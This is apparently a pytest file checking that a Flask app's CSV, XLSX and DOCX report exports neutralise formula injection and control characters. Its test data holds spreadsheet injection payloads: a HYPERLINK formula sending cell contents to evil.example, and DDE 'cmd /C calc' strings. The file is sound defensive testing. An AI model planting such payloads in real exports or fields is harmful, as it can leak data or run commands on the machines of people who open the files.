"""Exports are safe to open: no live formulas, no control characters breaking XLSX or DOCX.

Findings 1 and 3 of issue 10: a note such as =HYPERLINK(...) went raw into report.xlsx and
report.csv, and a note holding \\x0b (Word's soft line break) made XLSX and DOCX fail.
The reports here are built from text as it may already be stored (not cleaned on input).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date

import pytest
from docx import Document
from flask import Flask
from openpyxl import load_workbook

from readiness import create_app
from readiness.domain.answers import AnswerSet
from readiness.domain.comparison import compare
from readiness.domain.questionnaire import Questionnaire
from readiness.domain.scoring import score
from readiness.domain.text import clean_text
from readiness.services import report_export
from readiness.services.comparison_exports import comparison_rows
from readiness.services.comparison_exports import to_csv as comparison_csv
from readiness.services.report_model import ReportData
from readiness.services.reports import report_data
from readiness.services.spreadsheets import cell
from readiness.services.spreadsheets import csv_text
from tests.report_data import complete_answers

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
]
CONTROLS = "line one\x0bline two\x0cthree\x01\x1f\x7f\x85end\ud800"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def report_app() -> Iterator[Flask]:
    """An app for rendering (templates, translations); no database is needed."""
    app = create_app({"TESTING": True, "DATABASE_URL": "sqlite://", "SECRET_KEY": "x" * 32})
    with app.app_context():
        yield app


@pytest.fixture(scope="module")
def flagship(report_app: Flask) -> Questionnaire:
    """The flagship questionnaire."""
    return report_app.extensions["catalogue"].get(report_app.config["FLAGSHIP_QUESTIONNAIRE"])


@pytest.fixture(scope="module")
def hostile(flagship: Questionnaire) -> ReportData:
    """A report whose notes, organisation and author hold formulas and control characters."""
    answers = complete_answers(flagship)
    notes = [*HOSTILE, CONTROLS]
    ids = [q.id for q in flagship.questions][: len(notes)]
    comments = {qid: note for qid, note in zip(ids, notes, strict=True)}
    evidence = {qid: note for qid, note in zip(reversed(ids), notes, strict=True)}
    return report_data(
        flagship,
        AnswerSet(answers.values, comments),
        {},
        lang="en",
        organisation="=cmd|' /C calc'!A0 \x0b Ltd",
        when=date(2026, 3, 1),
        filled_in_by="@admin\x0b",
        evidence=evidence,
    )


def _no_live_text(value: object) -> None:
    if isinstance(value, str):
        assert not value.startswith(FORMULA_STARTS), repr(value)
        assert clean_text(value) == value, repr(value)


def test_csv_neutralises_formulas_and_controls(hostile: ReportData) -> None:
    text = report_export.to_csv(hostile)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) > 10
    for row in rows:
        for value in row:
            _no_live_text(value)
    comments = {r[1]: r[10] for r in rows[1:] if r[0] == "question"}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in comments.values()
    assert "line one\nline two\nthree\nend" in comments.values()


def test_xlsx_has_no_formula_cells_and_opens(hostile: ReportData) -> None:
    book = load_workbook(io.BytesIO(report_export.render_format(hostile, "xlsx")))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for xl_cell in row:
                assert xl_cell.data_type != "f", (sheet.title, xl_cell.coordinate, xl_cell.value)
                _no_live_text(xl_cell.value)
                seen.append(xl_cell.value)
    assert "'@SUM(A1:A2)" in seen and "line one\nline two\nthree\nend" in seen


def test_docx_renders_notes_with_control_characters(hostile: ReportData) -> None:
    doc = Document(io.BytesIO(report_export.render_format(hostile, "docx")))
    texts = [c.text for t in doc.tables for r in t.rows for c in r.cells]
    assert any("line one" in t and "end" in t for t in texts)
    assert all(clean_text(t) == t for t in texts)


@pytest.mark.parametrize("fmt", ["html", "json", "pdf"])
def test_other_formats_render_stored_control_characters(hostile: ReportData, fmt: str) -> None:
    assert report_export.render_format(hostile, fmt)


def test_comparison_csv_goes_through_the_same_writer(flagship: Questionnaire) -> None:
    before = complete_answers(flagship)
    comparison = compare(
        flagship, score(flagship, before), before, flagship, score(flagship, before), before
    )
    rows = comparison_rows(comparison)
    rows.append(["note", "=1+1", -3, "-3", "\x0b", None, True])
    parsed = list(csv.reader(io.StringIO(comparison_csv(rows))))
    assert parsed[-1] == ["note", "'=1+1", "-3", "-3", "\n", "", "true"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),  # a plain number stays a number
        ("-12.5", "-12.5"),
        ("-12.5+A1", "'-12.5+A1"),
        ("@x", "'@x"),
        ("\t=x", "'\t=x"),
        ("\x00=x", "'=x"),
        ("a\x0bb", "a\nb"),
        (" =x", " =x"),
        (5, 5),
        (None, ""),
        (["=a"], '["=a"]'),
    ],
)
def test_cell(value: object, expected: object) -> None:
    assert cell(value) == expected


def test_csv_text_has_bom_and_crlf() -> None:
    assert csv_text([["a", "=b"]]) == "\ufeffa,'=b\r\n"
